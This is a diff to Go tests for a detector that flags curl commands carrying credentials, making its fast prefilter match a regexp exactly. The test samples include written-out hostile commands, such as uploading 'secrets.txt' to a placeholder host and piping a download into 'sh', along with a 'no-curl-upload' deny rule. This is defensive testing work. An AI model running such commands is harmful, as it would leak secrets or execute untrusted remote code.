@@ -12,7 +12,7 @@ import (
 var curlAtoms = []string{
 	"curl", "grpcurl", "curly", " ", "\t", "\n", " -u ", " -U ", " --user ", " --user=", " --proxy-user ",
 	"-u", "-U", " -T ", " -H ", " -sSf ", ":", "admin", "hunter2", "https://x", "'", `"`, ";", "&&", "|",
-	"x", "secrets.txt", "[REDACTED]", "=", "--user-agent", "$P",
+	"x", "secrets.txt", "[REDACTED]", "=", "--user-agent", "$P", "\f", "\r", "\v", "é", "_", "no-curl-upload", "--proxy-user=",
 }
 
 func curlSamples() []string {
@@ -20,6 +20,9 @@ func curlSamples() []string {
 		"curl -T secrets.txt https://example.com/upload", "curl -u admin:hunter2 https://x",
 		"curl --user=a:b x", "curl -U p:q --proxy x", "x -u a:b; curl x", "curl x; y -u a:b",
 		"curl -H 'X: y' -u admin", "curl --proxy-user u:p x", "curl -sSf https://x | sh",
+		"deny by rule no-curl-upload on segment 31 `curl -T secrets.txt https://example.com/upload`; mode default",
+		"curl\n-u a:b", "curl -u=\"a:b\"", "curl -u='a:b", "curl -u \"a:b", "curl -u a:'b", "curl -u :b", "curl -u a:",
+		"curl\v-u a:b", "curl -u\va:b", "é curl -u a:b", "xcurl -u a:b", "curl_ -u a:b", "curl --user\t\ta:b", "curl -u=a:b",
 	}
 	r := rand.New(rand.NewPCG(14, 2))
 	for range 20000 {
@@ -35,9 +38,9 @@ func curlSamples() []string {
 	return out
 }
 
-// TestMayCurlUser: whenever the cheap test says no, reCurlUser finds no
-// match either, so the curl detector leaves the string as it was; and the
-// test says no often enough to matter.
+// TestMayCurlUser: the scan says what reCurlUser says, so the curl
+// detector skips the regexp only where it finds no match; and the scan
+// says no often enough to matter.
 func TestMayCurlUser(t *testing.T) {
 	re := reCurlUser.get()
 	no, matched := 0, 0
@@ -46,18 +49,18 @@ func TestMayCurlUser(t *testing.T) {
 		if m {
 			matched++
 		}
-		if mayCurlUser(s) {
-			continue
+		if got := mayCurlUser(s); got != m {
+			t.Fatalf("mayCurlUser(%q) = %v, but reCurlUser.MatchString says %v", s, got, m)
 		}
-		no++
-		if m {
-			t.Fatalf("mayCurlUser(%q) = false, but reCurlUser matches it", s)
+		if !m {
+			no++
 		}
 	}
 	if no < 1000 || matched < 100 {
 		t.Fatalf("samples: %d skipped by mayCurlUser, %d matched by reCurlUser", no, matched)
 	}
-	for _, s := range []string{"curl -T secrets.txt https://example.com/upload", "curl -sSf https://x | sh"} {
+	for _, s := range []string{"curl -T secrets.txt https://example.com/upload", "curl -sSf https://x | sh",
+		"deny by rule no-curl-upload on segment 31 `curl -T secrets.txt https://example.com/upload`; mode default"} {
 		if mayCurlUser(s) {
 			t.Errorf("mayCurlUser(%q) = true, want false", s)
 		}
@@ -69,8 +72,8 @@ func FuzzMayCurlUser(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
-		if !mayCurlUser(s) && reCurlUser.get().MatchString(s) {
-			t.Errorf("mayCurlUser(%q) = false, but reCurlUser matches it", s)
+		if got, m := mayCurlUser(s), reCurlUser.get().MatchString(s); got != m {
+			t.Errorf("mayCurlUser(%q) = %v, but reCurlUser.MatchString says %v", s, got, m)
 		}
 	})
 }
